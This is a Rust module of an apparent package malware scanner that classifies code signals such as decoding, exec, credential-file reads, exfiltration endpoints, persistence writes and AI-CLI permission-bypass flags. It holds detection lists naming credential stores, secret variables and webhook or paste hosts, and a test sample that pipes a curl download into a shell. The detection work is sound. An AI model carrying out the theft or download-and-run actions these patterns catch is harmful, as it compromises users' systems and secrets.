//! The signal model: what a piece of code was seen to do, typed, with the
//! line and snippet that show it. Grammars (`python.rs`, `javascript.rs`)
//! and the cheap byte scan produce signals; rules decide severity from
//! which signals meet in one file or one function.
//!
//! The text classifiers here are shared by both grammars and by the
//! shell-command reader of install scripts: a string literal, a command
//! line and a callee name are classified the same way in every language.

/// One kind of behaviour.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Hash, PartialOrd, Ord)]
pub enum Kind {
    /// Data decoded from base64, hex, zlib, marshal, rot13, char codes …
    Decode,
    /// exec/eval/compile/`Function`/`vm` of something that is not a literal.
    Exec,
    /// exec/eval whose argument is itself a decode: the obfuscation idiom.
    ExecDecoded,
    /// `getattr(__builtins__, …)`, `globals()['ev'+'al']` and the like.
    DynamicBuiltin,
    /// `_0x` hex identifiers and string-array rotation (javascript-obfuscator).
    ObfuscatorStyle,
    /// A long high-entropy literal.
    HighEntropy,
    /// Runs a program (subprocess, child_process, os.system …).
    Subprocess,
    /// A shell pipeline that downloads and runs (`curl … | sh`).
    PipeToShell,
    /// Network access (HTTP client, socket, DNS).
    Network,
    /// Sends data out (POST/PUT, socket send, DNS lookup of built-up names).
    NetworkSend,
    /// A webhook or paste/file-drop endpoint (Discord, Telegram, Slack …).
    ExfilEndpoint,
    /// A URL whose host is a literal IP address.
    HardcodedIp,
    /// Reads a credential store (SSH keys, cloud credentials, .npmrc …).
    CredentialFile,
    /// Dumps the whole environment.
    EnvDump,
    /// Reads a secret-named environment variable.
    SecretEnv,
    /// Runs a secret scanner (trufflehog, gitleaks).
    SecretScanner,
    /// Writes a persistence location (systemd, cron, shell rc, launch agent).
    Persistence,
    /// Writes a Python startup hook (`.pth`, `sitecustomize.py`).
    StartupWrite,
    /// Writes an AI-agent or editor config (Claude hooks, MCP servers, VS Code tasks).
    AgentConfig,
    /// Kubernetes API use that creates workloads, privileged or with hostPath.
    Kubernetes,
    /// Publishes packages (`npm publish`, `twine upload`, registry tokens).
    Publish,
    /// Writes to GitHub (workflow files, repositories, self-hosted runners) or `git push`.
    RepoWrite,
    /// Downloads a file to disk.
    Download,
    /// Makes a file executable.
    Chmod,
    /// Fetches a second runtime (bun, deno) to run a payload.
    SecondRuntime,
    /// Runs a local AI agent CLI with its permission checks turned off.
    AiCliBypass,
    /// Writes a file outside the package (home, /etc, /tmp …).
    WriteOutside,
    /// Reads a file (generic; gives credential paths their meaning).
    FileRead,
    /// Writes a file (generic; gives persistence paths their meaning).
    FileWrite,
}

impl Kind {
    /// Words for evidence lines and chain descriptions.
    pub fn label(self) -> &'static str {
        match self {
            Kind::Decode => "decodes data",
            Kind::Exec => "executes dynamic code",
            Kind::ExecDecoded => "executes decoded data",
            Kind::DynamicBuiltin => "reaches builtins dynamically",
            Kind::ObfuscatorStyle => "obfuscator-style code",
            Kind::HighEntropy => "long high-entropy literal",
            Kind::Subprocess => "runs a program",
            Kind::PipeToShell => "pipes a download into a shell",
            Kind::Network => "network access",
            Kind::NetworkSend => "sends data over the network",
            Kind::ExfilEndpoint => "webhook / paste endpoint",
            Kind::HardcodedIp => "hard-coded IP address",
            Kind::CredentialFile => "reads credential files",
            Kind::EnvDump => "dumps the environment",
            Kind::SecretEnv => "reads secret environment variables",
            Kind::SecretScanner => "runs a secret scanner",
            Kind::Persistence => "installs persistence",
            Kind::StartupWrite => "writes a Python startup hook",
            Kind::AgentConfig => "writes AI-agent/editor config",
            Kind::Kubernetes => "creates Kubernetes workloads",
            Kind::Publish => "publishes packages",
            Kind::RepoWrite => "writes to repositories/CI",
            Kind::Download => "downloads a file",
            Kind::Chmod => "makes a file executable",
            Kind::SecondRuntime => "fetches a second runtime",
            Kind::AiCliBypass => "runs an AI agent CLI without permission checks",
            Kind::WriteOutside => "writes outside the package",
            Kind::FileRead => "reads a file",
            Kind::FileWrite => "writes a file",
        }
    }
}

/// One observation in one file.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Signal {
    pub kind: Kind,
    /// What exactly (`base64`, `~/.aws`, `discord webhook` …).
    pub detail: &'static str,
    /// 1-based line.
    pub line: u32,
    /// The source line, trimmed and shortened.
    pub evidence: String,
    /// Enclosing function (0 = module level). Same number = same function.
    pub scope: u32,
    /// Runs when the module is loaded (module level, not under `__main__`,
    /// not inside a function).
    pub top_level: bool,
}

/// Every signal of one file.
#[derive(Clone, Debug, Default)]
pub struct FileSignals {
    pub signals: Vec<Signal>,
    /// The file was parsed with a grammar (otherwise: cheap byte scan only).
    pub parsed: bool,
}

impl FileSignals {
    pub fn has(&self, k: Kind) -> bool {
        self.signals.iter().any(|s| s.kind == k)
    }

    pub fn any(&self, ks: &[Kind]) -> bool {
        self.signals.iter().any(|s| ks.contains(&s.kind))
    }

    /// Signals of these kinds, in line order.
    pub fn of<'a>(&'a self, ks: &'a [Kind]) -> impl Iterator<Item = &'a Signal> + 'a {
        self.signals.iter().filter(move |s| ks.contains(&s.kind))
    }

    /// Whether one function (or the module level) holds a signal of each group.
    pub fn together(&self, groups: &[&[Kind]]) -> bool {
        let mut scopes: Vec<u32> = self.signals.iter().map(|s| s.scope).collect();
        scopes.sort_unstable();
        scopes.dedup();
        scopes.iter().any(|&sc| {
            groups.iter().all(|g| {
                self.signals
                    .iter()
                    .any(|s| (s.scope == sc || s.scope == 0) && g.contains(&s.kind))
            })
        })
    }

    /// Like [`Self::together`], but the module level counts only for itself:
    /// a module-level literal does not pair with every function.
    pub fn same_scope(&self, groups: &[&[Kind]]) -> bool {
        let mut scopes: Vec<u32> = self.signals.iter().map(|s| s.scope).collect();
        scopes.sort_unstable();
        scopes.dedup();
        scopes.iter().any(|&sc| {
            groups.iter().all(|g| {
                self.signals
                    .iter()
                    .any(|s| s.scope == sc && g.contains(&s.kind))
            })
        })
    }

    /// Distinct details of the given kinds (e.g. how many credential stores).
    pub fn details(&self, ks: &[Kind]) -> Vec<&'static str> {
        let mut d: Vec<&'static str> = self.of(ks).map(|s| s.detail).collect();
        d.sort_unstable();
        d.dedup();
        d
    }

    pub fn push(&mut self, s: Signal) {
        // One signal per (kind, detail, line) is enough evidence.
        if !self
            .signals
            .iter()
            .any(|o| o.kind == s.kind && o.line == s.line && o.detail == s.detail)
        {
            self.signals.push(s);
        }
    }
}

/// Shortens a source line for evidence.
pub fn snippet(line: &str) -> String {
    let t = line.trim();
    if t.chars().count() <= 160 {
        t.to_string()
    } else {
        let mut s: String = t.chars().take(157).collect();
        s.push('…');
        s
    }
}

/// Line starts of a source file, for evidence snippets.
pub struct Lines<'a> {
    src: &'a [u8],
    starts: Vec<usize>,
}

impl<'a> Lines<'a> {
    pub fn new(src: &'a [u8]) -> Self {
        let mut starts = vec![0];
        starts.extend(memchr::memchr_iter(b'\n', src).map(|i| i + 1));
        Lines { src, starts }
    }

    /// The text of line `line` (1-based), trimmed, as evidence. `col` (a
    /// byte offset in the line) centres the window on a minified line.
    pub fn text(&self, line: u32, col: usize) -> String {
        let i = line.saturating_sub(1) as usize;
        let start = self.starts.get(i).copied().unwrap_or(self.src.len());
        let end = self
            .starts
            .get(i + 1)
            .map_or(self.src.len(), |e| e.saturating_sub(1));
        let text = self.src.get(start..end.max(start)).unwrap_or(&[]);
        // A minified line is huge: keep a window around the hit.
        let from = col.saturating_sub(60).min(text.len());
        let to = (from + 160).min(text.len());
        snippet(&String::from_utf8_lossy(&text[from..to]))
    }
}

/// The text of line `line` (1-based) of `src`, as evidence.
pub fn line_text(src: &[u8], line: u32) -> String {
    Lines::new(src).text(line, 0)
}

/// Credential stores, matched in string literals (paths are often split:
/// `os.path.join(home, ".aws", "credentials")`, so parts count too).
pub(super) const CREDENTIALS: &[(&str, &str)] = &[
    (".ssh/id_", "~/.ssh keys"),
    ("id_rsa", "~/.ssh keys"),
    ("id_ed25519", "~/.ssh keys"),
    (".ssh", "~/.ssh keys"),
    (".aws/credentials", "~/.aws"),
    (".aws", "~/.aws"),
    (".azure", "~/.azure"),
    ("gcloud/", "gcloud"),
    ("application_default_credentials", "gcloud"),
    (".kube/config", "~/.kube/config"),
    (".kube", "~/.kube/config"),
    ("serviceaccount/token", "service-account token"),
    (".npmrc", ".npmrc"),
    (".pypirc", ".pypirc"),
    (".git-credentials", "git credentials"),
    (".netrc", ".netrc"),
    (".docker/config.json", "docker config"),
    ("Login Data", "browser store"),
    ("Local State", "browser store"),
    ("wallet.dat", "wallet"),
    ("Exodus", "wallet"),
    ("electrum", "wallet"),
    ("nkbihfbeogaeaoehlefnkodbefgpgknn", "wallet"),
    (".bash_history", "shell history"),
    (".zsh_history", "shell history"),
    ("_authToken", ".npmrc"),
    (".env", ".env files"),
    (".vault-token", "vault token"),
];

/// Credential patterns too common in configuration loading to buy a parse.
pub(super) const SOFT_CREDENTIAL_PATTERNS: &[&str] = &[".env"];

/// Secret-named environment variables.
pub(super) const SECRET_VARS: &[&str] = &[
    "OPENAI_API_KEY",
    "ANTHROPIC_API_KEY",
    "AWS_SECRET_ACCESS_KEY",
    "AWS_ACCESS_KEY_ID",
    "AWS_SESSION_TOKEN",
    "GITHUB_TOKEN",
    "GH_TOKEN",
    "NPM_TOKEN",
    "NODE_AUTH_TOKEN",
    "PYPI_TOKEN",
    "TWINE_PASSWORD",
    "HF_TOKEN",
    "AZURE_CLIENT_SECRET",
    "GOOGLE_APPLICATION_CREDENTIALS",
    "SLACK_TOKEN",
    "DISCORD_TOKEN",
];

/// Endpoints that receive stolen data: webhooks, paste and file-drop sites,
/// interaction catchers.
pub(super) const EXFIL_HOSTS: &[(&str, &str)] = &[
    ("discord.com/api/webhooks", "Discord webhook"),
    ("discordapp.com/api/webhooks", "Discord webhook"),
    ("api.telegram.org/bot", "Telegram bot"),
    ("hooks.slack.com", "Slack webhook"),
    ("webhook.site", "webhook.site"),
    ("pastebin.com", "paste site"),
    ("paste.ee", "paste site"),
    ("hastebin", "paste site"),
    ("transfer.sh", "file drop"),
    ("file.io", "file drop"),
    ("ngrok.io", "tunnel"),
    ("ngrok-free.app", "tunnel"),
    ("requestbin", "request catcher"),
    ("pipedream.net", "request catcher"),
    ("oast.", "interaction catcher"),
    ("interact.sh", "interaction catcher"),
    ("burpcollaborator", "interaction catcher"),
];

pub(super) const PERSISTENCE: &[(&str, Kind, &str)] = &[
    ("/etc/systemd/", Kind::Persistence, "systemd unit"),
    (".config/systemd/user", Kind::Persistence, "systemd unit"),
    ("systemctl enable", Kind::Persistence, "systemd unit"),
    ("systemctl --user enable", Kind::Persistence, "systemd unit"),
    ("[Service]", Kind::Persistence, "systemd unit"),
    ("crontab", Kind::Persistence, "cron"),
    ("/etc/cron", Kind::Persistence, "cron"),
    (".bashrc", Kind::Persistence, "shell rc"),
    (".zshrc", Kind::Persistence, "shell rc"),
    (".bash_profile", Kind::Persistence, "shell rc"),
    ("LaunchAgents", Kind::Persistence, "launch agent"),
    ("LaunchDaemons", Kind::Persistence, "launch agent"),
    ("CurrentVersion\\Run", Kind::Persistence, "registry run key"),
    ("schtasks", Kind::Persistence, "scheduled task"),
    ("sitecustomize.py", Kind::StartupWrite, "sitecustomize.py"),
    ("usercustomize.py", Kind::StartupWrite, "usercustomize.py"),
    (
        ".claude/settings",
        Kind::AgentConfig,
        ".claude/settings.json",
    ),
    (".claude.json", Kind::AgentConfig, ".claude.json"),
    ("mcpServers", Kind::AgentConfig, "MCP server entry"),
    (".cursor/mcp.json", Kind::AgentConfig, "MCP server entry"),
    (
        ".vscode/tasks.json",
        Kind::AgentConfig,
        ".vscode/tasks.json",
    ),
];

pub(super) const PROPAGATION: &[(&str, Kind, &str)] = &[
    ("npm publish", Kind::Publish, "npm publish"),
    ("twine upload", Kind::Publish, "twine upload"),
    ("uv publish", Kind::Publish, "uv publish"),
    ("/-/npm/v1/tokens", Kind::Publish, "registry token API"),
    ("git push", Kind::RepoWrite, "git push"),
    (
        ".github/workflows/",
        Kind::RepoWrite,
        "GitHub workflow file",
    ),
    (
        "actions/runners/registration-token",
        Kind::RepoWrite,
        "self-hosted runner",
    ),
    ("config.sh --url", Kind::RepoWrite, "self-hosted runner"),
    ("/user/repos", Kind::RepoWrite, "GitHub repository creation"),
    ("hostPath", Kind::Kubernetes, "hostPath mount"),
    ("\"privileged\"", Kind::Kubernetes, "privileged pod"),
    ("privileged: true", Kind::Kubernetes, "privileged pod"),
    ("/daemonsets", Kind::Kubernetes, "daemonset creation"),
    (
        "create_namespaced_daemon_set",
        Kind::Kubernetes,
        "daemonset creation",
    ),
    ("create_namespaced_pod", Kind::Kubernetes, "pod creation"),
    ("/api/v1/namespaces/", Kind::Kubernetes, "Kubernetes API"),
];

pub(super) const AI_FLAGS: &[&str] = &[
    "--dangerously-skip-permissions",
    "--yolo",
    "--trust-all-tools",
    "--allow-all-tools",
    "--full-auto",
    "--dangerously-bypass-approvals-and-sandbox",
    "bypassPermissions",
];

pub(super) const RUNTIMES: &[(&str, &str)] = &[
    ("bun.sh/install", "bun"),
    ("oven-sh/bun/releases", "bun"),
    ("bun-linux-x64", "bun"),
    ("deno.land/install", "deno"),
    ("deno.land/x/install", "deno"),
];

/// Classifies the text of a string literal (or a command line).
pub fn classify_text(text: &str, out: &mut Vec<(Kind, &'static str)>) {
    for (pat, d) in CREDENTIALS {
        if contains_token(text, pat) {
            out.push((Kind::CredentialFile, d));
            break;
        }
    }
    for v in SECRET_VARS {
        if text.contains(v) {
            out.push((Kind::SecretEnv, "secret variable"));
            break;
        }
    }
    for (pat, d) in EXFIL_HOSTS {
        if text.contains(pat) {
            out.push((Kind::ExfilEndpoint, d));
        }
    }
    for (pat, k, d) in PERSISTENCE.iter().chain(PROPAGATION) {
        if text.contains(pat) {
            out.push((*k, d));
        }
    }
    if text.contains("trufflehog") || text.contains("gitleaks") {
        out.push((Kind::SecretScanner, "secret scanner"));
    }
    for (pat, d) in RUNTIMES {
        if text.contains(pat) {
            out.push((Kind::SecondRuntime, d));
        }
    }
    if AI_FLAGS.iter().any(|f| text.contains(f)) {
        out.push((Kind::AiCliBypass, "permission-bypass flag"));
    }
    if has_ip_url(text) {
        out.push((Kind::HardcodedIp, "IP address URL"));
    } else if is_public_ip(text.trim_matches(['"', '\'', '`'])) {
        out.push((Kind::HardcodedIp, "IP address"));
    }
    classify_shell(text, out);
}

/// Shell-level patterns inside a string or an npm script.
pub fn classify_shell(text: &str, out: &mut Vec<(Kind, &'static str)>) {
    let fetch = text.contains("curl ") || text.contains("wget ") || text.contains("iwr ");
    let shell_sink = [
        "| sh", "|sh", "| bash", "|bash", "| node", "| python", "| iex",
    ];
    if fetch && shell_sink.iter().any(|s| text.contains(s)) {
        out.push((Kind::PipeToShell, "download piped to a shell"));
    } else if fetch {
        out.push((Kind::Download, "curl/wget"));
    }
    if text.contains("chmod +x") || text.contains("chmod 7") || text.contains("chmod 0o7") {
        out.push((Kind::Chmod, "chmod +x"));
    }
}

/// `pat` in `text`, where a pattern that is a bare dotted name (`.ssh`,
/// `.env`) must end at a word boundary (so `.environment` is not `.env`).
fn contains_token(text: &str, pat: &str) -> bool {
    let mut start = 0;
    while let Some(i) = text[start..].find(pat) {
        let end = start + i + pat.len();
        let next = text[end..].chars().next();
        let bare = pat.starts_with('.') && !pat.contains('/');
        if !bare || next.is_none_or(|c| !c.is_ascii_alphanumeric() && c != '_') {
            // A bare `.env` must be the whole literal or a path component.
            let before = text[..start + i].chars().last();
            if !bare || before.is_none_or(|c| matches!(c, '/' | '\\' | '~' | ' ' | '"' | '\'')) {
                return true;
            }
        }
        start = end;
    }
    false
}

/// `http(s)://a.b.c.d` with a literal IPv4 host (loopback and private
/// ranges are ignored: local development servers are common).
fn has_ip_url(text: &str) -> bool {
    for scheme in ["http://", "https://", "tcp://"] {
        let mut rest = text;
        while let Some(i) = rest.find(scheme) {
            let after = &rest[i + scheme.len()..];
            let host: String = after
                .chars()
                .take_while(|c| c.is_ascii_digit() || *c == '.')
                .collect();
            let parts: Vec<&str> = host.split('.').collect();
            if parts.len() == 4
                && parts
                    .iter()
                    .all(|p| !p.is_empty() && p.parse::<u8>().is_ok())
                && !is_local_ip(&parts)
            {
                return true;
            }
            rest = after;
        }
    }
    false
}

/// A whole literal that is a public dotted-quad IPv4 address.
fn is_public_ip(s: &str) -> bool {
    let parts: Vec<&str> = s.split('.').collect();
    parts.len() == 4
        && parts
            .iter()
            .all(|p| !p.is_empty() && p.len() <= 3 && p.parse::<u8>().is_ok())
        && !is_local_ip(&parts)
        && parts.first() != Some(&"255")
}

fn is_local_ip(p: &[&str]) -> bool {
    matches!(p.first(), Some(&"127") | Some(&"10") | Some(&"0"))
        || (p.first() == Some(&"192") && p.get(1) == Some(&"168"))
        || (p.first() == Some(&"169") && p.get(1) == Some(&"254"))
        || (p.first() == Some(&"172")
            && p.get(1)
                .and_then(|s| s.parse::<u8>().ok())
                .is_some_and(|n| (16..32).contains(&n)))
}

/// Whether `name` is a secret-named environment variable.
pub fn is_secret_var(name: &str) -> bool {
    SECRET_VARS.contains(&name)
        || (name.starts_with("AWS_") && (name.contains("SECRET") || name.contains("KEY")))
}

/// The first string literal of `args` decoded as base64, when it is one
/// (bounded: payloads over 1 MiB are not unpacked).
pub fn decode_base64_literal(args: &str) -> Option<Vec<u8>> {
    use base64::Engine;
    let start = args.find(['"', '\''])?;
    let q = args[start..].chars().next()?;
    let body = &args[start + 1..];
    let end = body.find(q)?;
    let lit: String = body[..end].chars().filter(|c| !c.is_whitespace()).collect();
    if lit.len() < 16 || lit.len() > (1 << 20) {
        return None;
    }
    let cfg = base64::engine::GeneralPurposeConfig::new()
        .with_decode_padding_mode(base64::engine::DecodePaddingMode::Indifferent);
    let engine = base64::engine::GeneralPurpose::new(&base64::alphabet::STANDARD, cfg);
    engine.decode(lit).ok()
}

/// Shannon entropy in bits per byte.
pub fn entropy(bytes: &[u8]) -> f64 {
    if bytes.is_empty() {
        return 0.0;
    }
    let mut counts = [0u32; 256];
    for &b in bytes {
        counts[b as usize] += 1;
    }
    let n = bytes.len() as f64;
    counts
        .iter()
        .filter(|&&c| c > 0)
        .map(|&c| {
            let p = c as f64 / n;
            -p * p.log2()
        })
        .sum()
}

/// A literal long and random enough to be an encoded payload rather than
/// text or a lookup table: base64/hex alphabet, ≥ 512 bytes, high entropy.
pub fn is_payload_literal(s: &[u8]) -> bool {
    if s.len() < 512 {
        return false;
    }
    let encoded = s
        .iter()
        .filter(|b| b.is_ascii_alphanumeric() || matches!(b, b'+' | b'/' | b'=' | b'-' | b'_'))
        .count();
    encoded * 100 / s.len() >= 97 && entropy(s) > 5.0
}

#[cfg(test)]
mod tests {
    use super::*;

    fn kinds(t: &str) -> Vec<Kind> {
        let mut v = Vec::new();
        classify_text(t, &mut v);
        v.into_iter().map(|(k, _)| k).collect()
    }

    #[test]
    fn credentials_and_boundaries() {
        assert!(kinds("~/.aws/credentials").contains(&Kind::CredentialFile));
        assert!(kinds(".env").contains(&Kind::CredentialFile));
        assert!(!kinds(".environment").contains(&Kind::CredentialFile));
        assert!(!kinds("process.env").contains(&Kind::CredentialFile));
        assert!(kinds("/home/x/.ssh/id_rsa").contains(&Kind::CredentialFile));
    }

    #[test]
    fn shell_and_ips() {
        assert!(kinds("curl -fsSL https://x.invalid/i.sh | sh").contains(&Kind::PipeToShell));
        assert!(kinds("http://203.0.113.9/x").contains(&Kind::HardcodedIp));
        assert!(!kinds("http://127.0.0.1:8080/").contains(&Kind::HardcodedIp));
        assert!(!kinds("http://1.2.3/").contains(&Kind::HardcodedIp));
    }

    #[test]
    fn payloads() {
        let text: Vec<u8> = (0..600u32)
            .map(|i| {
                b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/"
                    [(i * 37 % 64) as usize]
            })
            .collect();
        assert!(is_payload_literal(&text));
        assert!(!is_payload_literal(&[b'a'; 600]));
    }
}

/// Where the grammar walkers are in the tree.
#[derive(Clone, Copy, Debug)]
pub struct Place {
    /// 0-based row and byte column of the node.
    pub row: usize,
    pub col: usize,
    pub scope: u32,
    pub top_level: bool,
}

/// Collects signals while a grammar walker visits a file.
pub struct Collector<'a> {
    lines: Lines<'a>,
    pub out: FileSignals,
    next_scope: u32,
    /// Function name → its scopes.
    defs: Vec<(String, u32)>,
    /// (calling scope, called at module level, bare callee name).
    calls: Vec<(u32, bool, String)>,
}

impl<'a> Collector<'a> {
    pub fn new(src: &'a [u8]) -> Self {
        Collector {
            lines: Lines::new(src),
            out: FileSignals {
                signals: Vec::new(),
                parsed: true,
            },
            next_scope: 0,
            defs: Vec::new(),
            calls: Vec::new(),
        }
    }

    /// Records `def name` / `function name` opening scope `scope`.
    pub fn define(&mut self, name: &str, scope: u32) {
        self.defs.push((name.to_string(), scope));
    }

    /// Records a call of a bare name from `at`.
    pub fn called(&mut self, name: &str, at: Place) {
        if !name.is_empty() && name.chars().all(|c| c.is_alphanumeric() || c == '_') {
            self.calls.push((at.scope, at.top_level, name.to_string()));
        }
    }

    /// The signals, with the bodies of functions that module-level code
    /// calls (directly or through other functions) marked as running on load.
    pub fn finish(mut self) -> FileSignals {
        let mut live: Vec<u32> = Vec::new();
        let mut queue: Vec<&str> = self
            .calls
            .iter()
            .filter(|c| c.1)
            .map(|c| c.2.as_str())
            .collect();
        while let Some(name) = queue.pop() {
            for (_, scope) in self.defs.iter().filter(|d| d.0 == name) {
                if !live.contains(scope) {
                    live.push(*scope);
                    queue.extend(
                        self.calls
                            .iter()
                            .filter(|c| c.0 == *scope)
                            .map(|c| c.2.as_str()),
                    );
                }
            }
        }
        for s in &mut self.out.signals {
            if live.contains(&s.scope) {
                s.top_level = true;
            }
        }
        self.out
    }

    /// A fresh function scope number.
    pub fn scope(&mut self) -> u32 {
        self.next_scope += 1;
        self.next_scope
    }

    pub fn add(&mut self, kind: Kind, detail: &'static str, at: Place) {
        let line = at.row as u32 + 1;
        let evidence = self.lines.text(line, at.col);
        self.out.push(Signal {
            kind,
            detail,
            line,
            evidence,
            scope: at.scope,
            top_level: at.top_level,
        });
    }

    /// Classifies a string literal's text.
    pub fn string(&mut self, text: &str, at: Place) {
        let mut found = Vec::new();
        classify_text(text, &mut found);
        for (k, d) in found {
            self.add(k, d, at);
        }
        if is_payload_literal(text.as_bytes()) {
            self.add(Kind::HighEntropy, "encoded blob", at);
        }
        // Code handed to `python -c` / `node -e` as a string.
        if (text.contains("exec(") || text.contains("eval("))
            && [
                "b64decode",
                "decompress",
                "fromhex",
                "'base64'",
                "\"base64\"",
                "atob(",
            ]
            .iter()
            .any(|d| text.contains(d))
        {
            self.add(Kind::ExecDecoded, "code in a string", at);
        }
    }
}
